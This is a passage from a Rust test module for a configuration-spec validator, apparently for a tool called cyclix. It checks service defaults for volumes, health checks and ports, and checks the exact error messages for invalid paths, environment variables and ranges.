                    "services[2].name".to_owned(),
                    "invalid service name: name `Cache` must start with a lowercase letter a-z"
                        .to_owned()
                ),
                (
                    16,
                    "services[2].port".to_owned(),
                    "service port `80` is out of range".to_owned()
                ),
            ]
        );
    }

    #[test]
    fn services_take_a_data_volume_a_health_check_and_an_optional_port() {
        let s = ok(&plus(&format!(
            "services:\n  - name: db\n    image: \"localhost/pg@sha256:{DIGEST}\"\n    data: /var/lib/postgresql//data/\n    health: {{ command: [pg_isready, -q] }}\n  - {{ name: cache, image: \"localhost/r@sha256:{DIGEST}\", port: 6380, health: {{ command: [\"true\"], interval: 2s, timeout: 1s, retries: 3, start_period: 1m }} }}\n"
        )));
        let db = &s.services[0];
        assert_eq!(db.port, None, "no port: cyclix picks one per run");
        assert_eq!(db.data.as_deref(), Some("/var/lib/postgresql/data"));
        assert_eq!(
            db.health,
            Some(crate::spec::Health {
                command: vec!["pg_isready".into(), "-q".into()],
                interval_s: 1,
                timeout_s: 5,
                retries: 30,
                start_period_s: 0,
            }),
            "the defaults"
        );
        assert_eq!(
            db.health.as_ref().map(crate::spec::Health::budget_s),
            Some(180)
        );
        let cache = &s.services[1];
        assert_eq!((cache.port, cache.data.as_deref()), (Some(6380), None));
        assert_eq!(
            cache
                .health
                .as_ref()
                .map(|h| (h.interval_s, h.timeout_s, h.retries, h.start_period_s)),
            Some((2, 1, 3, 60))
        );
        let svc = |line: &str| {
            plus(&format!(
                "services:\n  - {{ name: db, image: \"localhost/pg@sha256:{DIGEST}\", {line} }}\n"
            ))
        };
        for (line, path, message) in [
            (
                "data: /",
                "services[0].data",
                "data path `/` would hide the whole image",
            ),
            (
                "data: /tmp/pg",
                "services[0].data",
                "data path `/tmp/pg` is under /tmp, which the container runtime or cyclix owns",
            ),
            (
                "data: ~/pg",
                "services[0].data",
                "data path `~/pg` is not absolute",
            ),
            (
                "data: /a/../etc",
                "services[0].data",
                "`/a/../etc` contains a `..` component",
            ),
            (
                "env: [PGDATABASE]",
                "services[0].env[0]",
                "`PGDATABASE` is set by cyclix for every service",
            ),
            (
                "health: { command: [] }",
                "services[0].health.command",
                "`command` is empty",
            ),
            (
                "health: { command: [x], retries: 1001 }",
                "services[0].health.retries",
                "retries `1001` is out of range",
            ),
            (
                "health: { command: [x], retries: \"3\" }",
                "services[0].health.retries",
                "expected an integer, found string \"3\"",
            ),
            (
                "health: [pg_isready]",
                "services[0].health",
                "expected a mapping (`key: value` lines), found a sequence",
            ),
            (
                "port: 80",
                "services[0].port",
                "service port `80` is out of range",
            ),
        ] {
            let (_, _, p, m) = one(&svc(line));
            assert_eq!((p.as_str(), m.as_str()), (path, message), "{line}");
        }
    }

    #[test]
    fn all_problems_are_reported_in_one_pass_in_file_order() {
        let text = include_str!("../../tests/fixtures/spec/bad-semantics.yaml");
        let e = err(text);
        assert!(e.diagnostics.len() >= 30, "{e}");
        let positions: Vec<(usize, usize)> = e
            .diagnostics
            .iter()
            .map(|x| (x.line.unwrap_or(0), x.column.unwrap_or(0)))
            .collect();
        let mut sorted = positions.clone();
        sorted.sort_unstable();
        assert_eq!(positions, sorted);
        let paths: Vec<&str> = e.diagnostics.iter().map(|x| x.path.as_str()).collect();
        for p in [
            "tenant",
            "repo.path",
            "repo.base",
            "agent.image",
            "agent.command[0]",
            "agent.env[0]",
            "egress.allow[12]",
            "egress.ports[1]",
            "mounts[2].target",
            "schedule.on_calendar",
            "schedule.randomized_delay",
        ] {
            assert!(paths.contains(&p), "{p} missing from\n{e}");
        }
    }
}
